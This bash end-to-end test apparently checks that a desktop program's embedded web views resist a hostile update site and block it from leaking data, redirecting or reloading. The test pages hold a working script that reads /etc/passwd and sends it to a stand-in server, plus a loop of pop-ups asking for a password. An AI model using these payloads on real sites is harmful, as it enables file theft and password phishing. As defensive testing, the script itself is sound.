#!/usr/bin/env bash
# A hostile update site against the web views. Its home page reloads itself without end, asks
# for boxes, and offers a link to another site (opened in a new window) and one to a local file;
# the release notes try to read a local file and send it to another server (script, frame,
# picture, style sheet, WebSocket), bring in two pictures past their cap, and then move the
# view to that server. Nothing reaches the other
# server, no box appears, the reloads stop, the view stays on the site, and only the person's
# click on the outside link reaches the desktop's browser (a stand-in for xdg-open records it).
# shellcheck source=tests/e2e/lib.sh
source "$(dirname "$0")/lib.sh"

start_display
install_program
install_player
copy_site
STRANGER=http://127.0.0.1:8099
python3 -m http.server 8099 --bind 127.0.0.1 --directory "$WORK" 2>"$ART/stranger.log" >/dev/null &
BG_PIDS+=($!)
mkdir -p "$WORK/bin"
printf '#!/bin/sh\necho "$@" >>"%s"\necho "$QTWEBENGINE_CHROMIUM_FLAGS" >"%s"\n' "$ART/opened.txt" "$ART/flags.txt" \
  >"$WORK/bin/xdg-open"
chmod +x "$WORK/bin/xdg-open"
export APP_PATH=$WORK/bin:$PATH
# Switches of the person's own for the web engine: the program's process model holds beside them.
export QTWEBENGINE_CHROMIUM_FLAGS=--disable-gpu-shader-disk-cache

steal="var x=new XMLHttpRequest();x.open('GET','file:///etc/passwd',false);x.send();
new WebSocket('ws://127.0.0.1:8099/exfil-ws?notes='+encodeURIComponent(x.responseText));
fetch('$STRANGER/exfil-fetch',{method:'POST',body:x.responseText});"
block() { printf 'style="display:block;position:absolute;left:0;top:%spx;width:220px;height:120px"' "$1"; }
printf '%s\r\n' '<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0">' \
  '<script>while (true) { alert("Press OK to repair"); confirm("Continue?"); prompt("Your password:"); }</script>' \
  '</head><body>' \
  "<a $(block 0) href=\"$STRANGER/clicked-outside\" target=\"_blank\">outside</a>" \
  "<a $(block 150) href=\"file:///etc/hostname\">hostname</a>" \
  '<img src="http://localhost/TavroMP3LiveUpdate2/on-site.png">' \
  '</body></html>' >"$SITE/TavroMP3LiveUpdate2/index.html"
printf '%s\r\n' '<!DOCTYPE html><html><head>' \
  "<meta http-equiv=\"refresh\" content=\"1;url=$STRANGER/away\">" \
  "<link rel=\"stylesheet\" href=\"$STRANGER/exfil-css\"><script>$steal</script></head><body>" \
  '<iframe src="file:///etc/passwd"></iframe>' "<img src=\"$STRANGER/exfil-img\">" \
  "<iframe src=\"$STRANGER/exfil-frame\"></iframe><p>notes</p>" \
  '<img src="/TavroMP3LiveUpdate2/Firmware/TA-500/TA-500_3.00.zip?1"><img src="/TavroMP3LiveUpdate2/Firmware/TA-500/TA-500_3.00.zip?2">' \
  '</body></html>' \
  >"$(site_file TavroMP3LiveUpdate2/Firmware/TA-100/TA-100_1.20.asp)"
start_site
start_app
wait_splash_then_main
program_log=$XDG_STATE_HOME/tavro/tavro.log
ps -o args= --ppid "$APP_PID" | grep -q -- '--type=zygote' || fail "the web engine did not start its zygote"
! ps -o args= --ppid "$APP_PID" | grep -q -- '--no-zygote-sandbox' ||
  fail "the engine started the unsandboxed zygote: the program's switches were lost to the person's"
wait_until 20 grep -q 'web view: navigation to http://localhost/TavroMP3LiveUpdate2 refused: the page moved' \
  "$program_log" || fail "the home page's reloads were not stopped"
wait_until 20 grep -q "web view: navigation to $STRANGER/away refused: it leaves the update site" "$program_log" ||
  fail "the release notes moved the view off the site"
home_fetches() { grep -c '"GET /TavroMP3LiveUpdate2 HTTP' "$WORK/nginx/logs/access.log"; }
fetched=$(home_fetches)
((fetched <= 6)) || fail "the home page was fetched $fetched times"
sleep 3
[[ $(home_fetches) == "$fetched" ]] || fail "the home page kept reloading after it was stopped"

click "$MAIN" 60 200          # the link to a local file
wait_until 10 grep -q 'web view: navigation to file:///etc/hostname refused' "$program_log" ||
  fail "the link to a local file was not refused"
click "$MAIN" 60 80           # the link to another site, in a new window
wait_until 10 grep -qx "$STRANGER/clicked-outside" "$ART/opened.txt" ||
  fail "the outside link did not reach the desktop's browser"
sleep 1
shot 03-hostile-site
[[ $(wc -l <"$ART/opened.txt") -eq 1 ]] || fail "the desktop's browser was asked more than once: $(cat "$ART/opened.txt")"
[[ $(cat "$ART/flags.txt") == "$QTWEBENGINE_CHROMIUM_FLAGS" ]] ||
  fail "the desktop's browser got the engine switches '$(cat "$ART/flags.txt")', not the person's own"
[[ $(windows . "$APP_PID" | wc -l) -eq 1 ]] || fail "a window other than the main one appeared"
grep -q '"GET /TavroMP3LiveUpdate2/on-site.png .*QtWebEngine' "$WORK/nginx/logs/access.log" ||
  fail "the home page's picture on the site, at its full address, was not fetched by the program's client"
# The notes' two large pictures: the first is read to the page's cap, the second not asked for.
[[ $(grep -c 'GET /TavroMP3LiveUpdate2/Firmware/TA-500/TA-500_3.00.zip' "$WORK/nginx/logs/access.log") -eq 1 ]] ||
  fail "the page brought in more than its cap"
grep -q 'GET\|POST' "$ART/stranger.log" && fail "the other server was reached: $(cat "$ART/stranger.log")"
cp "$program_log" "$ART/program-log.txt"
alive "$APP_PID" || fail "the program ended"
close_window "$MAIN"
wait_gone "$APP_PID" 15 || fail "the program did not end after its main window closed"
